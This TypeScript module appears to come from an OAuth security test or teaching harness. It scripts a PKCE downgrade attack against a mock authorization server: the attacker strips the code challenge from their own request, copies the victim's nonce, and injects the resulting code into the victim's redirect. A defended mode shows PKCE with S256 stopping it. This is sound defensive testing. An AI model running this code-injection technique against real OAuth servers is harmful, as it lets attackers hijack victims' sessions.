import { SPEC } from '../spec-references.ts';
import type { Attack } from './attack.ts';
import { codeIn, seenRequest, worksForAttacker } from './loot.ts';

export const pkceDowngrade: Attack = {
  slug: 'pkce-downgrade',
  title: 'PKCE downgrade',
  threat:
    'Servers that take PKCE as an option forget about it when nobody sends a challenge. The attacker leaves it out of a request of their own and slips that code into the victim’s answer; the victim’s verifier is then compared with nothing.',
  clause: SPEC.downgrade,
  weakened: 'The server does not require PKCE, and ignores a verifier whose code has no challenge.',
  harmed: 'The victim works in the attacker’s account.',
  stoppedBy: ['PKCE with S256'],
  refusal: { file: 'mocks/authorization-server/authorize.ts', name: 'checkRequest' },
  async play({ begin, defended }) {
    const victim = begin(defended ? {} : { policy: { pkceRequired: false, downgradeRefused: false } });
    const answer = new URL(await victim.obtainAnswer());
    const nonce = seenRequest(victim).get('nonce') ?? '';
    const forged = await victim.attacker().obtainAnswer({
      request({ searchParams }) {
        searchParams.delete('code_challenge');
        searchParams.delete('code_challenge_method');
        // Read from the front channel like the state, so neither of the two notices anything.
        searchParams.set('nonce', nonce);
      },
    });
    const code = codeIn(forged);
    if (!code) return;
    answer.searchParams.set('code', code);
    await victim.receive(answer.href);
    await victim.callTool('whoami');
  },
  harm: worksForAttacker,
};
